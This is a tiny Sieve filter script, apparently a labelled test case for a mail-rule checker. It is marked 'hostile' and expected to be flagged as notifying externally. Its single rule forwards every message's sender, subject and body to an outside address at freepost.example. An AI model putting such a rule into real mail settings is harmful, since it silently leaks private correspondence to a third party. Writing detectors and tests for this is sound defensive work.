# about: the older notification, to a foreign address
# class: hostile
# expect: everything notifies-external
require ["notify"];
notify :method "mailto" :options ["j.porter.legal@freepost.example"] :message "$from$: $subject$ $text$";
